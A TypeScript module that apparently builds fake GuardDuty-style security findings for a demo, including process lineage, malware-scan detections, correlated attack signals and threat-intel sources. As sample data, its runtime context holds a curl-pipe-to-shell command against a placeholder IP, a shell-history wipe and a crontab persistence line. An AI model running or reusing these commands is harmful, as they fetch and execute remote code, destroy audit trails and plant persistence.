// Protection-plan detail of a demo finding: runtime process context, EBS malware scans, attack-sequence signals, threat intel.
import type { FindingTypeSpec } from './catalog.js';
import { epochSeconds, hex8, iso } from './format.js';
import type { Random } from './random.js';
import type { ResourceFacts } from './resources.js';

function sha256(rng: Random): string {
  let out = '';
  for (let i = 0; i < 8; i++) out += hex8(rng.uint32());
  return out;
}

function uuid(rng: Random): string {
  const h = hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32());
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/** The process Runtime Monitoring saw, by what the type is about. */
const PROCESSES: readonly (readonly [keyword: string, name: string, path: string])[] = [
  ['CryptoMiner', 'xmrig', '/tmp/.X11-unix/xmrig'],
  ['BitcoinTool', 'kdevtmpfsi', '/tmp/kdevtmpfsi'],
  ['ReverseShell', 'bash', '/usr/bin/bash'],
  ['DockerSocket', 'curl', '/usr/bin/curl'],
  ['SuspiciousTool', 'nmap', '/usr/bin/nmap'],
  ['NewBinary', 'kworkerds', '/var/tmp/kworkerds'],
  ['NewLibrary', 'python3', '/usr/bin/python3.11'],
  ['ProcessInjection', 'gdb', '/usr/bin/gdb'],
  ['Fileless', 'memfd:payload', '/memfd:payload (deleted)'],
  ['', 'sh', '/bin/sh'],
];

function runtimeContext(type: string, rng: Random, at: number): Record<string, unknown> {
  const modifying = { name: rng.pick(['curl', 'wget', 'bash']), pid: rng.range(300, 60000), user: 'root' };
  if (type.includes('DockerSocket')) return { socketPath: '/var/run/docker.sock', addressFamily: 'AF_UNIX' };
  if (type.includes('MountsHostDirectory')) return { mountSource: '/', mountTarget: '/host', fileSystemType: 'ext4', flags: ['rw'] };
  if (type.includes('CGroupsReleaseAgent')) return { releaseAgentPath: '/sys/fs/cgroup/rdma/release_agent' };
  if (type.includes('Runc')) return { runcBinaryPath: '/usr/bin/runc' };
  if (type.includes('NewLibrary')) return { libraryPath: '/tmp/libprocesshider.so', modifiedAt: iso(at - 60_000), modifyingProcess: modifying };
  if (type.includes('NewBinary')) return { modifiedAt: iso(at - 60_000), modifyingProcess: modifying };
  if (type.includes('ProcessInjection')) {
    return { targetProcess: { name: 'sshd', pid: rng.range(300, 60000), user: 'root' }, memoryRegions: ['heap', 'stack'] };
  }
  if (type.includes('SuspiciousCommand')) return { commandLineExample: rng.pick(['curl -s http://198.51.100.23/x.sh | sh', 'history -c && rm -f ~/.bash_history', 'crontab -l | { cat; echo "* * * * * /tmp/.x"; } | crontab -']) };
  if (type.includes('SuspiciousTool')) return { toolName: 'nmap', toolCategory: 'Network scanner' };
  if (type.includes('CryptoMiner')) return { toolName: 'XMRig', toolCategory: 'Coin miner' };
  if (type.includes('MaliciousFile')) return { threatFilePath: '/tmp/.cache/dropper', ianaProtocolNumber: 6 };
  if (type.includes('ReverseShell')) return { ianaProtocolNumber: 6 };
  return {};
}

/** `service.runtimeDetails`: the process, its lineage and the type-specific context. */
export function runtimeDetails(type: string, rng: Random, at: number): Record<string, unknown> {
  let row = PROCESSES[PROCESSES.length - 1]!;
  for (const candidate of PROCESSES) {
    if (type.includes(candidate[0])) {
      row = candidate;
      break;
    }
  }
  const [, name, executablePath] = row;
  const parentUuid = uuid(rng);
  const start = at - rng.int(3_600_000);
  const user = rng.chance(0.7) ? 'root' : 'app';
  const userId = user === 'root' ? 0 : 1000;
  return {
    process: {
      name,
      executablePath,
      executableSha256: sha256(rng),
      namespacePid: rng.range(1, 400),
      pwd: rng.pick(['/', '/tmp', '/app', '/root']),
      pid: rng.range(300, 60000),
      startTime: epochSeconds(start),
      uuid: uuid(rng),
      parentUuid,
      user,
      userId,
      euid: userId,
      lineage: [
        { startTime: epochSeconds(start - 5_000), namespacePid: 1, userId, name: 'containerd-shim', pid: rng.range(100, 300), uuid: parentUuid, executablePath: '/usr/bin/containerd-shim-runc-v2', euid: userId },
      ],
    },
    context: runtimeContext(type, rng, at),
  };
}

const MALWARE: readonly (readonly [name: string, file: string])[] = [
  ['Trojan.Linux.Mirai.A', 'usr/local/bin/.mirai'],
  ['Backdoor.Linux.Tsunami.B', 'tmp/.ICE-unix/tsunami'],
  ['Coinminer.Linux.XMRig.C', 'var/tmp/xmrig'],
  ['Exploit.Linux.DirtyPipe.A', 'home/ubuntu/dp'],
];

/** `service.ebsVolumeScanDetails` for a Malware Protection finding, and how many files it flagged. */
export function ebsVolumeScanDetails(spec: FindingTypeSpec, facts: ResourceFacts, rng: Random, at: number): { details: Record<string, unknown>; files: number } {
  const [threat, file] = spec.type.includes('Suspicious') ? ['EICAR-Test-File', 'tmp/eicar.com'] : rng.pick(MALWARE);
  const severity = spec.severity >= 7 ? 'HIGH' : 'MEDIUM';
  const files = 1 + Math.floor(rng.next() * rng.next() * 4);
  const filePaths = Array.from({ length: files }, (_, i) => ({
    filePath: i === 0 ? file : `${file}.${i}`,
    fileName: (i === 0 ? file : `${file}.${i}`).split('/').pop() ?? file,
    volumeArn: facts.volumeArn ?? '',
    hash: sha256(rng),
  }));
  const completed = at - rng.range(30_000, 600_000);
  return {
    files,
    details: {
      scanId: hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()),
      scanStartedAt: epochSeconds(completed - rng.range(120_000, 900_000)),
      scanCompletedAt: epochSeconds(completed),
      triggerFindingId: hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()),
      sources: ['Bitdefender', 'Amazon'],
      scanDetections: {
        scannedItemCount: { totalGb: rng.range(2, 60), files: rng.range(20_000, 400_000), volumes: 1 },
        threatsDetectedItemCount: { files },
        highestSeverityThreatDetails: { severity, threatName: threat, count: files },
        threatDetectedByName: {
          itemCount: files,
          uniqueThreatNameCount: 1,
          shortened: false,
          threatNames: [{ name: threat, severity, itemCount: files, filePaths }],
        },
      },
      scanType: rng.chance(0.85) ? 'GUARDDUTY_INITIATED' : 'ON_DEMAND',
    },
  };
}

const SIGNALS: Readonly<Record<string, readonly string[]>> = {
  IAM: ['Stealth:IAMUser/CloudTrailLoggingDisabled', 'cloudtrail:DeleteTrail', 'iam:CreateRole', 'iam:AttachRolePolicy', 'iam:ListUsers', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  S3: ['Discovery:S3/AnomalousBehavior', 's3:ListObjects', 's3:GetObject', 's3:PutBucketVersioning', 's3:DeleteObject', 'Impact:S3/AnomalousBehavior.Delete'],
  EKS: ['Discovery:Kubernetes/AnomalousBehavior.PermissionChecked', 'Execution:Kubernetes/ExecInKubeSystemPod', 'CredentialAccess:Kubernetes/MaliciousIPCaller', 'CryptoCurrency:Runtime/BitcoinTool.B!DNS'],
  EC2: ['UnauthorizedAccess:EC2/SSHBruteForce', 'Execution:Runtime/NewBinaryExecuted', 'Impact:Runtime/CryptoMinerExecuted', 'Backdoor:Runtime/C&CActivity.B'],
};
const TACTICS = ['Initial Access', 'Discovery', 'Persistence', 'Privilege Escalation', 'Defense Evasion', 'Impact', 'Exfiltration'];

/** `service.detection.sequence` for an attack sequence: the signals GuardDuty correlated. */
export function attackSequence(spec: FindingTypeSpec, rng: Random, from: number, to: number): { detection: Record<string, unknown>; signals: number } {
  const domain = spec.type.slice(spec.type.indexOf(':') + 1, spec.type.indexOf('/'));
  const names = SIGNALS[domain] ?? SIGNALS['IAM']!;
  const count = rng.range(3, names.length);
  const signals = names.slice(0, count).map((name, i) => {
    const first = from + Math.floor(((to - from) * i) / count);
    const isFinding = name.includes('/');
    return {
      uid: isFinding ? hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()) + hex8(rng.uint32()) : `${name}-${hex8(rng.uint32())}`,
      type: isFinding ? 'FINDING' : name.startsWith('s3:') ? 'S3_DATA_EVENTS' : 'CLOUD_TRAIL',
      name,
      createdAt: iso(first),
      updatedAt: iso(first + 1000),
      firstSeenAt: iso(first),
      lastSeenAt: iso(first + 1000),
      severity: isFinding ? 5 : 1,
      count: rng.range(1, 30),
    };
  });
  const tactics = TACTICS.filter(() => rng.chance(0.6));
  return {
    signals: count,
    detection: {
      sequence: {
        uid: hex8(rng.uint32()) + hex8(rng.uint32()),
        description: `A sequence of actions involving ${count} signals was observed.`,
        signals,
        sequenceIndicators: [{ key: 'ATTACK_TACTIC', values: tactics.length > 0 ? tactics : ['Discovery'] }],
      },
    },
  };
}

/** Where GuardDuty's threat intelligence comes from, for types that name no specific list. */
const THREAT_LISTS: readonly (readonly [list: string, threat: string])[] = [
  ['ProofPoint', 'Proofpoint Emerging Threats'],
  ['CrowdStrike', 'CrowdStrike Falcon Intelligence'],
  ['Amazon', 'Amazon Threat Intelligence'],
];
const THREAT_INTEL_TYPES = /MaliciousIPCaller|MaliciousDomain|C&C|Bitcoin|Blackhole|DropPoint|Phishing|DriveBy/;

/** Threat intelligence behind a finding, when its type names one (malicious IPs, Tor, C&C, mining, bad domains). */
export function threatIntel(type: string, rng: Random): { list: string; threat: string } | undefined {
  if (type.includes('Tor')) return { list: 'TorExitNodes', threat: 'Tor exit node' };
  if (type.includes('.Custom')) return { list: 'CustomThreatList', threat: 'customer-blocklist' };
  if (!THREAT_INTEL_TYPES.test(type)) return undefined;
  const [list, threat] = rng.pick(THREAT_LISTS);
  return { list, threat };
}

/** The GuardDuty data source (`service.featureName`) behind a finding. */
export function featureName(spec: FindingTypeSpec, resourceType: string): string {
  if (spec.detail === 'sequence') return 'Correlation';
  if (spec.detail === 'volumeScan') return 'EbsVolumeScan';
  if (spec.detail === 'runtime') return resourceType === 'EKSCluster' ? 'EksRuntimeMonitoring' : 'RuntimeMonitoring';
  switch (spec.action) {
    case 'dns':
      return 'DnsLogs';
    case 'k8s':
      return 'EksAuditLogs';
    case 'rds':
      return 'RdsLoginEvents';
    case 'api':
      return spec.resource === 'S3Bucket' && !/^(Policy|Stealth)/.test(spec.type) ? 'S3DataEvents' : 'CloudTrail';
    default:
      return spec.resource === 'Lambda' ? 'LambdaNetworkLogs' : 'FlowLogs';
  }
}
